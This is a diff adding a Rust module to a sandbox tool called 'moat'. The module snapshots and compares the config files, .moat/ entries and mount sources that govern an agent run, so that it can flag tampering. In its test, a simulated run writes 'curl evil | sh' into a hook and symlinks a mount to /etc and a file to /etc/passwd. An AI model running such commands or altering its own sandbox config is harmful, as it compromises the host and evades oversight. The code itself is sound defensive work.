@@ -1,0 +1,415 @@
+//! What of a workspace decides what a run may do, captured and compared.
+
+use std::collections::BTreeMap;
+use std::fmt;
+use std::io::Read as _;
+use std::path::{Path, PathBuf};
+
+use moat_config::{KeyChange, CONFIG_FILE_NAMES};
+use serde::{Deserialize, Serialize};
+use sha2::{Digest as _, Sha256};
+
+use crate::TrustError;
+
+/// The directory of project files moat reads besides moat.yaml.
+pub(crate) const MOAT_DIR: &str = ".moat";
+
+/// `.moat/` with more entries than this is refused rather than hashed for
+/// ever; moat's own files there are a handful.
+const MAX_MOAT_DIR_ENTRIES: usize = 10_000;
+
+/// One config file as found.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub(crate) struct ConfigFile {
+    /// The text (lossy if it is not UTF-8), so a later diff can be shown.
+    pub text: String,
+    /// SHA-256 of the bytes.
+    pub sha256: String,
+    /// Where the file is a symlink to, if it is one.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub symlink: Option<String>,
+}
+
+/// Everything in a workspace that changes what `moat run` does there.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub(crate) struct Snapshot {
+    /// `moat.yaml` and `agent.yaml`, those present: an agent that creates
+    /// `moat.yaml` beside an `agent.yaml` changes which one is loaded.
+    pub config_files: BTreeMap<String, ConfigFile>,
+    /// Every entry under `.moat/` by relative path: `sha256:…` for a
+    /// file, `dir`, `symlink:TARGET` (never followed), `other`.
+    pub moat_dir: BTreeMap<String, String>,
+    /// Each mount source of the loaded config file → its real path after
+    /// symlinks, `missing`, or `unreadable: …`. A symlink planted where a
+    /// mounted directory was changes this, not moat.yaml.
+    pub mount_sources: BTreeMap<String, String>,
+}
+
+impl Snapshot {
+    /// Reads the workspace as it is now.
+    pub(crate) fn capture(workspace: &Path) -> Result<Snapshot, TrustError> {
+        let mut snapshot = Snapshot::default();
+        for name in CONFIG_FILE_NAMES {
+            let path = workspace.join(name);
+            let symlink = match std::fs::symlink_metadata(&path) {
+                Ok(meta) if meta.file_type().is_symlink() => Some(
+                    std::fs::read_link(&path)
+                        .map(|t| t.display().to_string())
+                        .unwrap_or_default(),
+                ),
+                Ok(_) => None,
+                Err(e) if e.kind() == std::io::ErrorKind::NotFound => continue,
+                Err(e) => return Err(TrustError::read(&path, e)),
+            };
+            let bytes = match std::fs::read(&path) {
+                Ok(bytes) => bytes,
+                // A dangling symlink: recorded as one, with no text.
+                Err(e) if e.kind() == std::io::ErrorKind::NotFound => Vec::new(),
+                Err(e) => return Err(TrustError::read(&path, e)),
+            };
+            snapshot.config_files.insert(
+                name.to_owned(),
+                ConfigFile {
+                    text: String::from_utf8_lossy(&bytes).into_owned(),
+                    sha256: hex::encode(Sha256::digest(&bytes)),
+                    symlink,
+                },
+            );
+        }
+        walk_moat_dir(workspace, Path::new(MOAT_DIR), &mut snapshot.moat_dir)?;
+        snapshot.mount_sources = mount_sources(workspace);
+        Ok(snapshot)
+    }
+
+    /// A digest of the whole snapshot: equal digests, equal snapshots.
+    pub(crate) fn digest(&self) -> String {
+        // BTreeMaps serialise in key order, so the JSON is canonical.
+        let json = serde_json::to_vec(self).unwrap_or_default();
+        hex::encode(Sha256::digest(&json))
+    }
+}
+
+fn walk_moat_dir(
+    workspace: &Path,
+    relative: &Path,
+    out: &mut BTreeMap<String, String>,
+) -> Result<(), TrustError> {
+    let path = workspace.join(relative);
+    let meta = match std::fs::symlink_metadata(&path) {
+        Ok(meta) => meta,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(()),
+        Err(e) => return Err(TrustError::read(&path, e)),
+    };
+    if out.len() >= MAX_MOAT_DIR_ENTRIES {
+        return Err(TrustError::TooManyFiles {
+            dir: workspace.join(MOAT_DIR),
+            limit: MAX_MOAT_DIR_ENTRIES,
+        });
+    }
+    let key = relative.display().to_string();
+    let kind = meta.file_type();
+    if kind.is_symlink() {
+        let target = std::fs::read_link(&path).map_err(|e| TrustError::read(&path, e))?;
+        out.insert(key, format!("symlink:{}", target.display()));
+    } else if kind.is_file() {
+        out.insert(key, format!("sha256:{}", hash_file(&path)?));
+    } else if kind.is_dir() {
+        out.insert(key, "dir".to_owned());
+        let mut names: Vec<_> = std::fs::read_dir(&path)
+            .map_err(|e| TrustError::read(&path, e))?
+            .map(|entry| entry.map(|e| e.file_name()))
+            .collect::<Result<_, _>>()
+            .map_err(|e| TrustError::read(&path, e))?;
+        names.sort();
+        for name in names {
+            walk_moat_dir(workspace, &relative.join(name), out)?;
+        }
+    } else {
+        out.insert(key, "other".to_owned());
+    }
+    Ok(())
+}
+
+fn hash_file(path: &Path) -> Result<String, TrustError> {
+    let mut file = std::fs::File::open(path).map_err(|e| TrustError::read(path, e))?;
+    let mut hasher = Sha256::new();
+    let mut buf = [0u8; 64 * 1024];
+    loop {
+        let n = file.read(&mut buf).map_err(|e| TrustError::read(path, e))?;
+        if n == 0 {
+            break;
+        }
+        hasher.update(&buf[..n]);
+    }
+    Ok(hex::encode(hasher.finalize()))
+}
+
+/// The mount sources of the config `moat run` would load, resolved. A
+/// config that does not parse has none here; its text is in the snapshot.
+fn mount_sources(workspace: &Path) -> BTreeMap<String, String> {
+    let mut out = BTreeMap::new();
+    let Ok(Some(config)) = moat_config::load(workspace) else {
+        return out;
+    };
+    for mount in config.mounts {
+        let resolved = match std::fs::canonicalize(&mount.source) {
+            Ok(real) => real.display().to_string(),
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => "missing".to_owned(),
+            Err(e) => format!("unreadable: {e}"),
+        };
+        out.insert(mount.source.display().to_string(), resolved);
+    }
+    out
+}
+
+/// One difference between the accepted snapshot and the current one.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Change {
+    /// A key of a config file.
+    Key {
+        /// `moat.yaml` or `agent.yaml`.
+        file: String,
+        /// What changed.
+        change: KeyChange,
+    },
+    /// A config file as a whole: created, deleted, made a symlink,
+    /// unparseable, or changed in comments and layout only.
+    ConfigFile {
+        /// `moat.yaml` or `agent.yaml`.
+        file: String,
+        /// How, in words.
+        how: FileChange,
+    },
+    /// An entry under `.moat/`.
+    MoatDir {
+        /// `.moat/...`.
+        path: String,
+        /// How.
+        how: FileChange,
+    },
+    /// A mount source now resolves somewhere else.
+    MountSource {
+        /// The source as moat.yaml names it (made absolute).
+        source: PathBuf,
+        /// Where it resolved when accepted.
+        was: String,
+        /// Where it resolves now.
+        now: String,
+    },
+}
+
+/// How a whole file changed.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum FileChange {
+    /// Created.
+    Added,
+    /// Deleted.
+    Removed,
+    /// Its contents (or kind) changed.
+    Changed,
+    /// Its keys are the same: comments or layout only.
+    FormattingOnly,
+    /// One version is not valid YAML, so keys cannot be compared.
+    NotYaml,
+    /// Now a symlink (to this), or no longer one.
+    Symlink(Option<String>),
+}
+
+impl fmt::Display for Change {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Change::Key { file, change } if file == CONFIG_FILE_NAMES[0] => write!(f, "{change}"),
+            Change::Key { file, change } => write!(f, "{file}: {change}"),
+            Change::ConfigFile { file, how } | Change::MoatDir { path: file, how } => match how {
+                FileChange::Added => write!(f, "added: {file}"),
+                FileChange::Removed => write!(f, "removed: {file}"),
+                FileChange::Changed => write!(f, "changed: {file}"),
+                FileChange::FormattingOnly => {
+                    write!(f, "changed: {file} (comments or layout only)")
+                }
+                FileChange::NotYaml => write!(
+                    f,
+                    "changed: {file} (not valid YAML, so keys cannot be compared; read it)"
+                ),
+                FileChange::Symlink(Some(target)) => {
+                    write!(f, "changed: {file} (now a symlink to {target})")
+                }
+                FileChange::Symlink(None) => write!(f, "changed: {file} (no longer a symlink)"),
+            },
+            Change::MountSource { source, was, now } => write!(
+                f,
+                "changed: mount source {} (now resolves to {now}; was {was})",
+                source.display()
+            ),
+        }
+    }
+}
+
+/// What changed from `old` to `new`, config files first.
+pub(crate) fn diff(old: &Snapshot, new: &Snapshot) -> Vec<Change> {
+    let mut out = Vec::new();
+    for name in CONFIG_FILE_NAMES {
+        let file = name.to_owned();
+        match (old.config_files.get(name), new.config_files.get(name)) {
+            (None, None) => {}
+            (None, Some(_)) => out.push(Change::ConfigFile {
+                file,
+                how: FileChange::Added,
+            }),
+            (Some(_), None) => out.push(Change::ConfigFile {
+                file,
+                how: FileChange::Removed,
+            }),
+            (Some(a), Some(b)) => {
+                if a.symlink != b.symlink {
+                    out.push(Change::ConfigFile {
+                        file: file.clone(),
+                        how: FileChange::Symlink(b.symlink.clone()),
+                    });
+                }
+                if a.sha256 == b.sha256 {
+                    continue;
+                }
+                match moat_config::diff_keys(&a.text, &b.text) {
+                    Some(changes) if changes.is_empty() => out.push(Change::ConfigFile {
+                        file,
+                        how: FileChange::FormattingOnly,
+                    }),
+                    Some(changes) => out.extend(changes.into_iter().map(|change| Change::Key {
+                        file: file.clone(),
+                        change,
+                    })),
+                    None => out.push(Change::ConfigFile {
+                        file,
+                        how: FileChange::NotYaml,
+                    }),
+                }
+            }
+        }
+    }
+    for (path, state) in &new.moat_dir {
+        match old.moat_dir.get(path) {
+            None => out.push(Change::MoatDir {
+                path: path.clone(),
+                how: FileChange::Added,
+            }),
+            Some(was) if was != state => out.push(Change::MoatDir {
+                path: path.clone(),
+                how: match state.strip_prefix("symlink:") {
+                    Some(target) => FileChange::Symlink(Some(target.to_owned())),
+                    None => FileChange::Changed,
+                },
+            }),
+            Some(_) => {}
+        }
+    }
+    for path in old.moat_dir.keys() {
+        if !new.moat_dir.contains_key(path) {
+            out.push(Change::MoatDir {
+                path: path.clone(),
+                how: FileChange::Removed,
+            });
+        }
+    }
+    // Added or removed sources show up as moat.yaml keys; what only this
+    // shows is a source that resolves elsewhere.
+    for (source, now) in &new.mount_sources {
+        if let Some(was) = old.mount_sources.get(source) {
+            if was != now {
+                out.push(Change::MountSource {
+                    source: PathBuf::from(source),
+                    was: was.clone(),
+                    now: now.clone(),
+                });
+            }
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used)]
+    use super::*;
+
+    fn lines(old: &Snapshot, new: &Snapshot) -> Vec<String> {
+        diff(old, new).iter().map(ToString::to_string).collect()
+    }
+
+    #[test]
+    fn captures_config_moat_dir_and_mount_sources() {
+        let ws = tempfile::tempdir().unwrap();
+        let ws = ws.path().canonicalize().unwrap();
+        std::fs::write(ws.join("moat.yaml"), "mounts: [\"./data:/data:ro\"]\n").unwrap();
+        std::fs::create_dir_all(ws.join(".moat/hooks")).unwrap();
+        std::fs::write(ws.join(".moat/hooks/pre.sh"), "echo hi\n").unwrap();
+        std::fs::create_dir(ws.join("data")).unwrap();
+        let before = Snapshot::capture(&ws).unwrap();
+        assert_eq!(
+            before.moat_dir.keys().collect::<Vec<_>>(),
+            [".moat", ".moat/hooks", ".moat/hooks/pre.sh"]
+        );
+        let data = ws.join("data").display().to_string();
+        assert_eq!(before.mount_sources.get(&data), Some(&data));
+        assert_eq!(before.digest(), Snapshot::capture(&ws).unwrap().digest());
+
+        // A run swaps the mounted directory for a symlink and edits a hook.
+        std::fs::rename(ws.join("data"), ws.join("data.old")).unwrap();
+        std::os::unix::fs::symlink("/etc", ws.join("data")).unwrap();
+        std::fs::write(ws.join(".moat/hooks/pre.sh"), "curl evil | sh\n").unwrap();
+        std::os::unix::fs::symlink("/etc/passwd", ws.join(".moat/link")).unwrap();
+        let after = Snapshot::capture(&ws).unwrap();
+        assert_ne!(before.digest(), after.digest());
+        assert_eq!(
+            lines(&before, &after),
+            [
+                "changed: .moat/hooks/pre.sh".to_owned(),
+                "added: .moat/link".to_owned(),
+                format!("changed: mount source {data} (now resolves to /etc; was {data})"),
+            ]
+        );
+    }
+
+    #[test]
+    fn config_file_changes() {
+        let file = |text: &str| ConfigFile {
+            text: text.to_owned(),
+            sha256: hex::encode(Sha256::digest(text.as_bytes())),
+            symlink: None,
+        };
+        let with = |files: &[(&str, &str)]| Snapshot {
+            config_files: files
+                .iter()
+                .map(|(n, t)| ((*n).to_owned(), file(t)))
+                .collect(),
+            ..Snapshot::default()
+        };
+        let old = with(&[("agent.yaml", "name: a\n")]);
+        let new = with(&[("moat.yaml", "network: {policy: permissive}\n")]);
+        assert_eq!(
+            lines(&old, &new),
+            ["added: moat.yaml", "removed: agent.yaml"]
+        );
+        let old = with(&[("moat.yaml", "network: {policy: strict}\n")]);
+        let new = with(&[("moat.yaml", "network:\n  policy: permissive\n# hi\n")]);
+        assert_eq!(
+            lines(&old, &new),
+            ["changed: network.policy (strict → permissive)"]
+        );
+        let new = with(&[("moat.yaml", "# same\nnetwork:\n  policy: strict\n")]);
+        assert_eq!(
+            lines(&old, &new),
+            ["changed: moat.yaml (comments or layout only)"]
+        );
+        let new = with(&[("moat.yaml", "network: [\n")]);
+        assert!(lines(&old, &new)[0].contains("not valid YAML"));
+        let mut linked = with(&[("moat.yaml", "network: {policy: strict}\n")]);
+        if let Some(f) = linked.config_files.get_mut("moat.yaml") {
+            f.symlink = Some("/root/.moat/x".into());
+        }
+        assert_eq!(
+            lines(&old, &linked),
+            ["changed: moat.yaml (now a symlink to /root/.moat/x)"]
+        );
+    }
+}
